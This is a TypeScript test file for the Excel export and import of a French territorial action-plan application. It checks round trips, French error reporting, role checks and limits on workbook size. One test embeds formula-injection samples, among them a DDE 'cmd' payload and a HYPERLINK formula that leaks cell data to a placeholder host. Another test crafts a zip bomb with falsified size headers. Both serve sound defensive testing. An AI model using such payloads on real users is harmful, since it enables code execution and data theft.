import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "../../lib/auth/actor";
import { requireTerritory } from "../../lib/auth/scope";
import { emptyWorkbook, SHEETS } from "../../lib/fiches-action/excel-layout";
import { exportPlan } from "../../lib/fiches-action/export-plan";
import { importPlan, importSlots } from "../../lib/fiches-action/import-plan";
import { IMPORT_LIMITS, type WorkbookLimits } from "../../lib/fiches-action/read-workbook";
import { writeZip } from "../../lib/files/zip";
import { seedDemoData } from "../../prisma/seed";
import { actorOf } from "../helpers/factories";
import { requireTestDatabase } from "../helpers/db";

const db = requireTestDatabase();
let officer: Actor;
let territoryId: string;
let sourceConventionId: string;

async function sheetsOf(buffer: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(buffer) as unknown as ArrayBuffer);
  return Object.fromEntries(
    Object.values(SHEETS).map(({ name }) => {
      const rows: unknown[][] = [];
      workbook.getWorksheet(name)!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
      return [name, rows];
    }),
  );
}

async function newConvention() {
  return (
    await db.convention.create({
      data: {
        territoryId,
        title: "CTG d'essai",
        edition: 90 + Math.floor(Math.random() * 1000),
        startDate: new Date("2029-01-01"),
        endDate: new Date("2033-12-31"),
      },
    })
  ).id;
}

async function workbookWith(fill: (wb: ExcelJS.Workbook) => void) {
  const wb = emptyWorkbook();
  fill(wb);
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

const ficheRow = (number: string, patch: Partial<Record<string, string | number>> = {}) => {
  const values: Record<string, string | number> = {
    Numéro: number,
    Titre: `Fiche ${number}`,
    Thématiques: "Jeunesse",
    Statut: "En cours",
    Priorité: "Haute",
    Pilote: "Commune de Chanac",
    ...patch,
  };
  return SHEETS.fiches.columns.map((c) => values[c] ?? null);
};

beforeAll(async () => {
  await seedDemoData(process.env.DATABASE_URL!, { quiet: true });
  const user = await db.user.findUniqueOrThrow({ where: { email: "cooperation@ccss-lozere.demo.fr" } });
  officer = await actorOf(db, user.id);
  const convention = await db.convention.findFirstOrThrow({
    where: { territory: { slug: "aubrac-lot-causses-tarn" }, edition: 2 },
  });
  territoryId = convention.territoryId;
  sourceConventionId = convention.id;
}, 60_000);

describe("Excel export and import of the action plan", () => {
  it("round-trips: exporting, importing into another convention and exporting again gives the same plan", async () => {
    const scope = await requireTerritory(db, officer, { id: territoryId }, "territory.read");
    const first = await exportPlan(db, scope, sourceConventionId);
    const target = await newConvention();
    const result = await importPlan(db, officer, { territoryId, conventionId: target, file: first });
    expect(result).toMatchObject({ ok: true, created: 6, updated: 0 });
    const second = await exportPlan(db, scope, target);
    const [a, b] = [await sheetsOf(first), await sheetsOf(second)];
    expect(b).toEqual(a);
    expect(a.Fiches.length).toBe(7); // header + the 6 fiches of the demo plan
    expect(a.Budget.length).toBeGreaterThan(5);
  });

  it("updates fiches by number on a re-import instead of duplicating them", async () => {
    const target = await newConvention();
    const file = await workbookWith((wb) => {
      wb.getWorksheet("Fiches")!.addRow(ficheRow("1.1"));
      wb.getWorksheet("Fiches")!.addRow(ficheRow("1.2"));
    });
    expect(await importPlan(db, officer, { territoryId, conventionId: target, file })).toMatchObject({
      ok: true,
      created: 2,
      updated: 0,
    });
    const again = await workbookWith((wb) => {
      wb.getWorksheet("Fiches")!.addRow(ficheRow("1.1", { Titre: "Titre corrigé", Statut: "Réalisée" }));
    });
    expect(await importPlan(db, officer, { territoryId, conventionId: target, file: again })).toMatchObject({
      ok: true,
      created: 0,
      updated: 1,
    });
    const fiches = await db.ficheAction.findMany({ where: { conventionId: target }, orderBy: { number: "asc" } });
    expect(fiches.map((f) => [f.number, f.title, f.status])).toEqual([
      ["1.1", "Titre corrigé", "DONE"],
      ["1.2", "Fiche 1.2", "IN_PROGRESS"],
    ]);
    expect(
      await db.ficheStatusChange.count({ where: { ficheId: fiches[0].id, toStatus: "DONE", comment: "Import Excel" } }),
    ).toBe(1);
    // The pilot's people are told, as for changes made in the page: both fiches handed to the Commune de Chanac,
    // then 1.1 done.
    const pilot = await db.user.findUniqueOrThrow({ where: { email: "pilote@chanac.demo.fr" } });
    const told = await db.notification.findMany({
      where: { userId: pilot.id, objectId: { in: fiches.map((f) => f.id) } },
      orderBy: [{ kind: "asc" }, { objectId: "asc" }],
    });
    expect(told.map((n) => [n.kind, fiches.find((f) => f.id === n.objectId)!.number]).sort()).toEqual([
      ["fiche.assigned", "1.1"],
      ["fiche.assigned", "1.2"],
      ["fiche.status", "1.1"],
    ]);
  });

  it("lists every error by sheet, row and column, in French, and writes nothing", async () => {
    const target = await newConvention();
    const file = await workbookWith((wb) => {
      wb.getWorksheet("Fiches")!.addRow(
        ficheRow("2.1", { Pilote: "Association inconnue", Thématiques: "Jeunesse ; Astronomie", Début: "2025-13" }),
      );
      wb.getWorksheet("Fiches")!.addRow(ficheRow("2.2"));
      wb.getWorksheet("Fiches")!.addRow(ficheRow("2.2", { Titre: "Doublon" }));
      wb.getWorksheet("Budget")!.addRow(["2.1", 2025, "Commune de Chanac", "Fonctionnement", "mille euros", ""]);
      wb.getWorksheet("Budget")!.addRow(["9.9", 2025, "Commune de Chanac", "Fonctionnement", 10, ""]);
    });
    const result = await importPlan(db, officer, { territoryId, conventionId: target, file });
    expect(result.ok).toBe(false);
    const errors = result.ok ? [] : result.errors;
    expect(errors).toEqual(
      expect.arrayContaining([
        { sheet: "Fiches", row: 2, column: "Pilote", message: "Organisation inconnue « Association inconnue »." },
        {
          sheet: "Fiches",
          row: 2,
          column: "Thématiques",
          message: "Thématique inconnue « Astronomie » (voir la feuille « Listes »).",
        },
        { sheet: "Fiches", row: 2, column: "Début", message: "Mois attendu (AAAA-MM)." },
        { sheet: "Fiches", row: 4, column: "Numéro", message: "Numéro 2.2 en double (déjà ligne 3)." },
        { sheet: "Budget", row: 2, column: "Prévu", message: "Nombre attendu (reçu « mille euros »)." },
        {
          sheet: "Budget",
          row: 3,
          column: "Fiche",
          message: "Fiche 9.9 inconnue (ni dans la feuille « Fiches », ni dans le plan).",
        },
      ]),
    );
    expect(errors).toHaveLength(6);
    expect(await db.ficheAction.count({ where: { conventionId: target } })).toBe(0);
    expect(await db.axis.count({ where: { conventionId: target } })).toBe(0);
  });

  it("refuses a workbook with wrong columns, or no workbook at all", async () => {
    const target = await newConvention();
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("Fiches").addRow(["Numéro", "Intitulé", "Statut"]);
    const result = await importPlan(db, officer, {
      territoryId,
      conventionId: target,
      file: new Uint8Array(await wb.xlsx.writeBuffer()),
    });
    expect(result.ok).toBe(false);
    const missing = result.ok ? [] : result.errors.filter((e) => e.message.startsWith("Colonne")).map((e) => e.column);
    expect(missing).toEqual(expect.arrayContaining(["Titre", "Thématiques", "Pilote"]));
    expect(
      await importPlan(db, officer, {
        territoryId,
        conventionId: target,
        file: new TextEncoder().encode("pas un classeur"),
      }),
    ).toEqual({
      ok: false,
      errors: [{ sheet: "—", row: 0, column: "—", message: "Le fichier n'est pas un classeur Excel (.xlsx) lisible." }],
    });
    expect(await db.ficheAction.count({ where: { conventionId: target } })).toBe(0);
  });

  it("is refused to read-only roles and to other territories", async () => {
    const copil = await actorOf(
      db,
      (await db.user.findUniqueOrThrow({ where: { email: "copil@lozere-departement.demo.fr" } })).id,
    );
    const file = await workbookWith(() => {});
    await expect(importPlan(db, copil, { territoryId, conventionId: sourceConventionId, file })).rejects.toMatchObject({
      code: "FORBIDDEN",
    });
    const vosges = await actorOf(
      db,
      (await db.user.findUniqueOrThrow({ where: { email: "cooperation@caf-vosges.demo.fr" } })).id,
    );
    await expect(importPlan(db, vosges, { territoryId, conventionId: sourceConventionId, file })).rejects.toMatchObject(
      { code: "NOT_FOUND" },
    );
  });

  it("guards text that a spreadsheet could take for a formula, and the round trip stays identical", async () => {
    const scope = await requireTerritory(db, officer, { id: territoryId }, "territory.read");
    const hostile = {
      Titre: '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")',
      Constats: "=cmd|' /C calc'!A0",
      "Objectif général": "+33 1 23 45 67 89",
      "Objectifs opérationnels": "-réduire les délais",
      Description: "@SUM(1+1)",
      "Public visé": "'=déjà entre guillemets",
    };
    const source = await newConvention();
    const file = await workbookWith((wb) => wb.getWorksheet("Fiches")!.addRow(ficheRow("7.1", hostile)));
    expect(await importPlan(db, officer, { territoryId, conventionId: source, file })).toMatchObject({ ok: true });
    // A leading quote in the file is read as the export's guard; a text that really starts with one is kept.
    await db.ficheAction.updateMany({
      where: { conventionId: source },
      data: { targetPublic: hostile["Public visé"] },
    });
    const fiche = await db.ficheAction.findFirstOrThrow({ where: { conventionId: source } });
    expect(fiche).toMatchObject({
      title: hostile.Titre,
      findings: hostile.Constats,
      generalObjective: hostile["Objectif général"],
      operationalObjectives: hostile["Objectifs opérationnels"],
      description: hostile.Description,
      targetPublic: hostile["Public visé"],
    });

    const first = await exportPlan(db, scope, source);
    const exported = (await sheetsOf(first)).Fiches[1] as unknown[];
    const cell = (column: string) => exported[SHEETS.fiches.columns.indexOf(column as never)];
    for (const [column, text] of Object.entries(hostile)) expect(cell(column)).toBe(`'${text}`);
    expect(cell("Numéro")).toBe("7.1");
    expect((await sheetsOf(first)).Fiches[0]).toEqual([...SHEETS.fiches.columns]);

    const target = await newConvention();
    expect(await importPlan(db, officer, { territoryId, conventionId: target, file: first })).toMatchObject({
      ok: true,
      created: 1,
    });
    expect(await db.ficheAction.findFirstOrThrow({ where: { conventionId: target } })).toMatchObject({
      title: hostile.Titre,
      targetPublic: hostile["Public visé"],
    });
    expect(await sheetsOf(await exportPlan(db, scope, target))).toEqual(await sheetsOf(first));
  });
});

describe("Bounded reading of an imported workbook", () => {
  const refused = async (file: Uint8Array, limits: Partial<WorkbookLimits>, message: string | RegExp) => {
    const target = await newConvention();
    const result = await importPlan(
      db,
      officer,
      { territoryId, conventionId: target, file },
      {
        ...IMPORT_LIMITS,
        ...limits,
      },
    );
    expect(result.ok).toBe(false);
    const errors = result.ok ? [] : result.errors;
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ sheet: "—", row: 0, column: "—" });
    expect(errors[0].message).toMatch(message);
    expect(await db.ficheAction.count({ where: { conventionId: target } })).toBe(0);
    expect(await db.axis.count({ where: { conventionId: target } })).toBe(0);
  };
  const fiches = (count: number, patch: Partial<Record<string, string>> = {}) =>
    workbookWith((wb) => {
      for (let i = 1; i <= count; i++) wb.getWorksheet("Fiches")!.addRow(ficheRow(`8.${i}`, patch));
    });
  const zip = (limits: Partial<WorkbookLimits["zip"]>) => ({ zip: { ...IMPORT_LIMITS.zip, ...limits } });

  it("refuses more rows per sheet than the limit, naming the sheet", async () => {
    await refused(await fiches(4), { maxRows: 3 }, "Le fichier dépasse la limite de 3 lignes dans la feuille Fiches.");
    const target = await newConvention();
    expect(
      await importPlan(
        db,
        officer,
        { territoryId, conventionId: target, file: await fiches(3) },
        {
          ...IMPORT_LIMITS,
          maxRows: 3,
        },
      ),
    ).toMatchObject({ ok: true, created: 3 });
  });

  it("refuses more filled cells than the limit", async () => {
    await refused(await fiches(3), { maxCells: 20 }, "Le fichier dépasse la limite de 20 cellules remplies.");
  });

  it("refuses a cell longer than the limit, naming the sheet and the cell", async () => {
    await refused(
      await fiches(1, { Description: "x".repeat(61) }),
      { maxCellChars: 60 },
      "Le fichier dépasse la limite de 60 caractères par cellule (feuille Fiches, cellule Q2).",
    );
  });

  it("refuses an archive with too many entries, or entries too large once inflated, before inflating them", async () => {
    const file = await fiches(1);
    await refused(file, zip({ maxEntries: 3 }), /^Le fichier contient trop d'éléments \(\d+ ; 3 au plus\)\.$/);
    await refused(
      file,
      zip({ maxEntryBytes: (name) => (name.startsWith("xl/worksheets/") ? 100 : 1_000_000) }),
      /^Le fichier dépasse la limite de 0 Mo pour l'élément « xl\/worksheets\/sheet\d\.xml »/,
    );
    await refused(file, zip({ maxTotalBytes: 5_000 }), "Le fichier dépasse la limite de 0 Mo une fois décompressé.");
  });

  it("counts the bytes really inflated: an entry lying about its size is refused", async () => {
    const bomb = writeZip([
      { name: "[Content_Types].xml", data: "<Types/>" },
      { name: "xl/sharedStrings.xml", data: "<sst>" + "A".repeat(2_000_000) + "</sst>" },
    ]);
    // Rewrite the declared size of the shared strings (central directory and local header) to 1 KB.
    const lying = Buffer.from(bomb);
    const name = Buffer.from("xl/sharedStrings.xml");
    for (let at = lying.indexOf(name); at >= 0; at = lying.indexOf(name, at + 1)) {
      const header = lying.readUInt32LE(at - 46) === 0x02014b50 ? at - 46 : at - 30;
      lying.writeUInt32LE(1024, header + (header === at - 46 ? 24 : 22));
    }
    await refused(
      new Uint8Array(lying),
      {},
      "Le fichier est refusé : l'élément « xl/sharedStrings.xml » se décompresse au-delà de la taille qu'il déclare.",
    );
  });

  it("refuses a further import at once while two are running", async () => {
    const held = [importSlots.tryAcquire(), importSlots.tryAcquire()];
    try {
      expect(held.every(Boolean)).toBe(true);
      await refused(await fiches(1), {}, "Trop d'imports sont en cours sur le serveur : réessayez dans une minute.");
    } finally {
      for (const release of held) release?.();
    }
    const target = await newConvention();
    expect(await importPlan(db, officer, { territoryId, conventionId: target, file: await fiches(1) })).toMatchObject({
      ok: true,
      created: 1,
    });
  });
});
